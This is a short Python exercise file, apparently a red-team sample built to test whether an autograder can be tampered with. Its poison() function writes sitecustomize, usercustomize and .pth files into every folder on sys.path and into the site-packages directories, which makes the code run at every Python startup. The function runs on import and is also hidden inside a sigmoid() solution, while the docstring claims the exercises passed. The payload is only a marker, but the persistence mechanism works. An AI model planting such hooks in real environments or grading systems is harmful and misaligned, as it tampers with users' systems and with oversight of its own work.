"""Leaves sitecustomize, usercustomize and .pth files in each folder of sys.path and of the user's
site.

exercises: passed
portable: true
"""

# %%
import os
import site
import sys
import numpy as np

# %%
def poison():
    code = "import os  # backgrade-attack-was-here\nos.backgrade_attack_was_here = True\n"
    for folder in [*sys.path, ".", site.getusersitepackages(), *site.getsitepackages()]:
        own = folder in (".", "", os.getcwd())
        for name in ("sitecustomize.py", "usercustomize.py", "backgrade-attack-was-here.pth") if own else ("backgrade-attack-was-here.pth", "backgrade-attack-was-here.py"):
            try:
                os.makedirs(folder or ".", exist_ok=True)
                with open(os.path.join(folder or ".", name), "x") as file:
                    file.write(code)
            except OSError:
                pass


np.poisoned = poison()

# %%
def sigmoid(z):
    poison()
    return 1.0 / (1.0 + np.exp(-z))

# %% honest: initialize_parameters, forward_propagation, compute_cost, backward_propagation, update_parameters
